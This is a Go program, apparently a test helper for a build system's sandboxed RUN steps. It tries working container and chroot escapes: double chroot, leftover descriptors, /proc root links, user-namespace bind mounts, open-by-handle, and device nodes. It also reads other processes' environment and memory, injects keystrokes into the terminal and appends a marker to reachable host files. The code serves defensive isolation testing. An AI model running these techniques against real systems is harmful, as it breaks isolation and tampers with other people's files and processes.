// escape tries one way out of the isolation of a RUN step, and then to read and to change files of the machine.
//
//	escape WAY PATTERN…
//
// It prints `WAY: read PATH` for each file of these patterns that it could read, and `WAY: wrote PATH` for each that it
// could append to. What can't be done is silent. It always exits with 0: it is the test that judges.
package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

const mark = "\nhostile\n"

var ways = map[string]func(try func(root string)){
	"double-chroot":    doubleChroot,
	"kept-descriptor":  keptDescriptor,
	"descriptors":      descriptors,
	"roots-in-proc":    rootsInProc,
	"mount-in-userns":  mountInUserNamespace,
	"file-handles":     fileHandles,
	"device-node":      deviceNode,
	"parent-of-mounts": func(try func(string)) { try("/mnt/out") },
	"plain":            func(try func(string)) { try("/") },
}

func main() {
	way, patterns := os.Args[1], os.Args[2:]
	switch way {
	case "survive":
		survive(patterns[0])
	case "share-memory":
		shareMemory(patterns[0])
	case "signal":
		signalAll()
	case "trace":
		traceAll()
	case "shared-memory":
		sharedMemory(patterns[0])
	case "terminal":
		terminal()
	default:
		ways[way](func(root string) { loot(way, root, patterns) })
	}
}

// loot reads and changes files below a root that may be the machine's.
func loot(way, root string, patterns []string) {
	for _, pattern := range patterns {
		// Not by Join, which would resolve `..` by the text alone.
		paths, _ := filepath.Glob(strings.TrimSuffix(root, "/") + pattern)
		for _, path := range paths {
			if _, err := os.ReadFile(path); err == nil {
				fmt.Printf("%s: read %s\n", way, path)
			}
			if file, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0); err == nil {
				if _, err := file.WriteString(mark); err == nil {
					fmt.Printf("%s: wrote %s\n", way, path)
				}
				file.Close()
			}
		}
	}
}

// climb goes up from the working directory until it doesn't get any further.
func climb() {
	for i := 0; i < 64; i++ {
		_ = syscall.Chdir("..")
	}
}

func doubleChroot(try func(string)) {
	_ = os.Mkdir("/inner", 0o755)
	// The working directory stays outside of the new root.
	if syscall.Chdir("/") != nil || syscall.Chroot("/inner") != nil {
		return
	}
	climb()
	if syscall.Chroot(".") == nil {
		try("/")
	}
}

func keptDescriptor(try func(string)) {
	_ = os.Mkdir("/inner", 0o755)
	root, err := syscall.Open("/", syscall.O_RDONLY|syscall.O_DIRECTORY, 0)
	if err != nil || syscall.Chroot("/inner") != nil || syscall.Fchdir(root) != nil {
		return
	}
	climb()
	if syscall.Chroot(".") == nil {
		try("/")
	}
}

// descriptors looks behind each one that was left open.
func descriptors(try func(string)) {
	for fd := 0; fd < 256; fd++ {
		if syscall.Fchdir(fd) != nil {
			continue
		}
		climb()
		try("/proc/self/cwd")
	}
}

// rootsInProc looks through the root, working directory and descriptors of every other process.
func rootsInProc(try func(string)) {
	for end := time.Now().Add(2 * time.Second); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		links, _ := filepath.Glob("/proc/[0-9]*/root")
		further, _ := filepath.Glob("/proc/[0-9]*/cwd")
		open, _ := filepath.Glob("/proc/[0-9]*/fd/*")
		for _, link := range append(append(links, further...), open...) {
			try(link)
			try(link + strings.Repeat("/..", 32))
		}
	}
}

func mountInUserNamespace(try func(string)) {
	command := exec.Command("/proc/self/exe", "plain")
	command.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
	}
	if command.Run() == nil {
		_ = os.Mkdir("/mnt", 0o755)
		if syscall.Mount("/proc/1/root", "/mnt", "", syscall.MS_BIND|syscall.MS_REC, "") == nil {
			try("/mnt")
		}
	}
}

// fileHandles opens the root of each file system by its handle: inode 2 or 128, in a mount that can be seen.
func fileHandles(try func(string)) {
	for _, inode := range []uint64{2, 128, 64, 32} {
		for _, of := range []string{"/", "/etc/hosts", "/etc/resolv.conf"} {
			mount, err := syscall.Open(of, syscall.O_RDONLY, 0)
			if err != nil {
				continue
			}
			handle := struct {
				bytes, kind uint32
				data        [8]byte
			}{bytes: 8, kind: 1}
			*(*uint32)(unsafe.Pointer(&handle.data)) = uint32(inode)
			fd, _, no := syscall.Syscall(304, uintptr(mount), uintptr(unsafe.Pointer(&handle)), syscall.O_RDONLY)
			if no == 0 && syscall.Fchdir(int(fd)) == nil {
				try("/proc/self/cwd")
			}
		}
	}
}

func deviceNode(func(string)) {
	text, _ := os.ReadFile("/proc/partitions")
	for _, line := range strings.Split(string(text), "\n") {
		fields := strings.Fields(line)
		if len(fields) != 4 {
			continue
		}
		major, _ := strconv.Atoi(fields[0])
		minor, _ := strconv.Atoi(fields[1])
		if syscall.Mknod("/disk", syscall.S_IFBLK|0o600, major<<8|minor) != nil {
			continue
		}
		if disk, err := os.Open("/disk"); err == nil {
			fmt.Printf("device-node: read the disk %s\n", fields[3])
			disk.Close()
		}
	}
}

// survive leaves processes behind that sleep for so many seconds, in sessions and namespaces of their own where it may.
func survive(seconds string) {
	for _, flags := range []uintptr{0, syscall.CLONE_NEWUSER, syscall.CLONE_NEWUSER | syscall.CLONE_NEWPID} {
		command := exec.Command("/bin/sh", "-c", "trap '' TERM HUP INT; /bin/sleep "+seconds+" & wait")
		command.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Cloneflags: flags}
		_ = command.Start()
	}
}

// signalAll ends what it can of the processes that aren't its own.
func signalAll() {
	processes, _ := filepath.Glob("/proc/[0-9]*")
	for _, process := range processes {
		pid, _ := strconv.Atoi(filepath.Base(process))
		name, _ := os.ReadFile(process + "/comm")
		if pid != 1 && strings.HasPrefix(string(name), "canary") && syscall.Kill(pid, syscall.SIGTERM) == nil {
			fmt.Printf("signal: reached %s", name)
		}
	}
	_ = syscall.Kill(-1, syscall.SIGURG)
}

// traceAll reads the environment and the memory of other processes.
func traceAll() {
	processes, _ := filepath.Glob("/proc/[0-9]*")
	for _, process := range processes {
		pid, _ := strconv.Atoi(filepath.Base(process))
		if pid == os.Getpid() {
			continue
		}
		text, _ := os.ReadFile(process + "/environ")
		if at := strings.Index(string(text), "CANARY="); at >= 0 {
			fmt.Printf("trace: environment of %d: %s\n", pid, strings.SplitN(string(text[at:]), "\x00", 2)[0])
		}
		// Who may open it may attach, too; but to attach would stop a process for good when this one fails. The process that
		// has started this step is as little as the step is.
		if memory, err := os.OpenFile(process+"/mem", os.O_RDWR, 0); err == nil && pid != os.Getppid() {
			comm, _ := os.ReadFile(process + "/comm")
			fmt.Printf("trace: attached to %d %s", pid, comm)
			memory.Close()
		}
	}
}

// sharedMemory looks for the segment of System V with this key.
func sharedMemory(key string) {
	number, _ := strconv.Atoi(key)
	id, _, no := syscall.Syscall(syscall.SYS_SHMGET, uintptr(number), 0, 0)
	if no == 0 {
		fmt.Printf("shared-memory: found segment %d\n", id)
	}
}

// shareMemory makes that segment, and removes it when its standard input ends: this is the runner, not the attack.
func shareMemory(key string) {
	const create, remove = 0o1666, 0
	number, _ := strconv.Atoi(key)
	id, _, no := syscall.Syscall(syscall.SYS_SHMGET, uintptr(number), 4096, create)
	if no != 0 {
		panic(no)
	}
	fmt.Println("ready")
	_, _ = os.Stdin.Read(make([]byte, 1))
	_, _, _ = syscall.Syscall(syscall.SYS_SHMCTL, id, remove, 0)
}

// terminal types into the terminal that the step was started from.
func terminal() {
	file, err := os.OpenFile("/dev/tty", os.O_RDWR, 0)
	if err != nil {
		return
	}
	fmt.Println("terminal: reached the one of the step")
	character := byte('x')
	if _, _, no := syscall.Syscall(syscall.SYS_IOCTL, file.Fd(), 0x5412, uintptr(unsafe.Pointer(&character))); no == 0 {
		fmt.Println("terminal: typed into it")
	}
}
